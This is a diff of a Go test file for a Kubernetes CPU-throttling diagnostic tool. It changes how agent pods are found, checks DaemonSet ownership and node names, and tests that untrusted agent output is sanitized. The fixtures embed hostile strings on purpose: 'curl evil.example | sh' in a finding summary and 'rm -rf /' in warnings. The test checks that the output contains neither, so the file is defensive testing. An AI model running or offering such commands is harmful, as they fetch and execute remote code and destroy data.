@@ -41,11 +41,15 @@ func (s *server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		json.NewEncoder(w).Encode(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": reason, "message": message, "code": code})
 	}
 	switch path := strings.TrimPrefix(r.URL.Path, "/api/v1/namespaces/shop/pods"); {
-	case r.URL.Path == "/api/v1/pods":
-		if got := r.URL.Query(); got.Get("labelSelector") != agentLabel || got.Get("fieldSelector") != "spec.nodeName=n1" {
+	case r.URL.Path == "/apis/apps/v1/namespaces/u/daemonsets":
+		io.WriteString(w, `{"items":[{"metadata":{"name":"d","uid":"d-1"}}]}`)
+	case r.URL.Path == "/api/v1/namespaces/u/pods":
+		if got := r.URL.Query(); got.Get("labelSelector") != "app.kubernetes.io/name=unthrottle-agent" || got.Get("fieldSelector") != "spec.nodeName=n1" {
 			s.t.Errorf("agents are looked for by %v", got)
 		}
-		io.WriteString(w, `{"items":[{"metadata":{"namespace":"u","name":"old"},"status":{"phase":"Failed"}},{"metadata":{"namespace":"u","name":"a"},"status":{"phase":"Running"}}]}`)
+		io.WriteString(w, `{"items":[{"metadata":{"namespace":"u","name":"old"},"status":{"phase":"Failed"}},{"metadata":{"namespace":"u","name":"friend"},"spec":{"nodeName":"n1"},"status":{"phase":"Running"}},`+
+			`{"metadata":{"namespace":"u","name":"a","ownerReferences":[{"apiVersion":"apps/v1","kind":"DaemonSet","uid":"d-1","controller":true}]},"spec":{"nodeName":"n1"},`+
+			`"status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}]}}]}`)
 	case strings.HasPrefix(r.URL.Path, "/api/v1/namespaces/u/pods/http:a:9435/proxy/api/v1/"):
 		s.agent(w, r)
 	case r.URL.Path == "/apis/apps/v1/namespaces/shop/deployments/api":
@@ -126,7 +130,8 @@ func ended(code int) any {
 
 // What is run is the verb with the first process of the container, as a user who may look into it.
 func TestBeside(t *testing.T) {
-	const document = `{"version":2,"verb":"explain"}`
+	const document = `{"version":2,"verb":"explain","subject":{"pid":12,"name":"api"},"limit":{"state":"limited","cpus":2},"gomaxprocs":{"value":8},` +
+		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"]}`
 	s := &server{
 		pod: running(), log: "unthrottle: a warning\n" + document + "\nunthrottle: the end\n",
 		then: []any{object(`{"waiting":{"reason":"ContainerCreating"}}`), object(`{"running":{}}`), ended(3)},
@@ -195,7 +200,8 @@ func TestUser(t *testing.T) {
 
 // Where an agent runs it explains the container, and nothing is added to the pod.
 func TestAgent(t *testing.T) {
-	const document = `{"version":2,"verb":"explain"}`
+	const document = `{"version":2,"verb":"explain","subject":{"pid":12,"name":"api"},"limit":{"state":"limited","cpus":2},"gomaxprocs":{"value":8},` +
+		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"]}`
 	known := running()
 	known["spec"].(map[string]any)["nodeName"] = "n1"
 	known["status"].(map[string]any)["containerStatuses"] = object(`{"of":[{"name":"web","containerID":"containerd://77","state":{"running":{}}}]}`)["of"]
@@ -210,20 +216,24 @@ func TestAgent(t *testing.T) {
 			}
 		}
 	}
-	const three = `{"processes":[{"pid":10,"cpus_used":3,"container":{"id":"78"}},{"pid":11,"cpus_used":0.1,"container":{"id":"77"}},{"pid":12,"cpus_used":0.2,"container":{"id":"77"}},{"pid":13}]}`
+	const three = `{"version":2,"node":"n1","processes":[{"pid":10,"cpus_used":3,"container":{"id":"78"}},{"pid":11,"cpus_used":0.1,"container":{"id":"77"}},{"pid":12,"cpus_used":0.2,"affinity_cpus":8,"gomaxprocs":{"value":8},"limit":{"state":"limited","cpus":2},"container":{"id":"77"}},{"pid":13}]}`
 	s := &server{pod: known, agent: agent(three)}
 	p := serve(t, s)
-	p.Way = Auto
+	p.Way, p.Agents = Auto, "u"
 	done, err := p.Run(t.Context(), "explain")
-	if err != nil || string(done.Document) != document || len(s.adds) > 0 || len(s.said) != 1 || s.said[0] != "asking agent a on node n1" {
-		t.Errorf("%+v, %v, %q", done, err, s.said)
+	if err != nil || len(s.adds) > 0 || len(s.said) != 2 || !strings.HasPrefix(s.said[0], "pod friend in u has an agent's label and was not asked") || s.said[1] != "asking agent a on node n1" {
+		t.Fatalf("%+v, %v, %q", done, err, s.said)
+	}
+	if text := string(done.Document); !strings.Contains(text, "GOMAXPROCS is 8 under a limit of 2 CPUs") || strings.Contains(text, "curl") || strings.Contains(text, "rm -rf") {
+		t.Error(text)
 	}
 	for name, answer := range map[string]string{
-		"another container": `{"processes":[{"pid":10,"container":{"id":"78"}}]}`, "nonsense": "<html>", "nothing": "",
-		"another process": `{"processes":[{"pid":99,"container":{"id":"77"}}]}`,
+		"another container": `{"version":2,"processes":[{"pid":10,"container":{"id":"78"}}]}`, "nonsense": "<html>", "nothing": "",
+		"another process": `{"version":2,"processes":[{"pid":99,"container":{"id":"77"}}]}`,
+		"another node":    `{"version":2,"node":"n2","processes":[{"pid":12,"container":{"id":"77"}}]}`,
 	} {
 		p := serve(t, &server{pod: known, agent: agent(answer)})
-		p.Way = Agent
+		p.Way, p.Agents = Agent, "u"
 		if _, err := p.Run(t.Context(), "explain"); err == nil || !strings.Contains(err.Error(), "it can't be had there: its agent") {
 			t.Errorf("%s: %v", name, err)
 		}
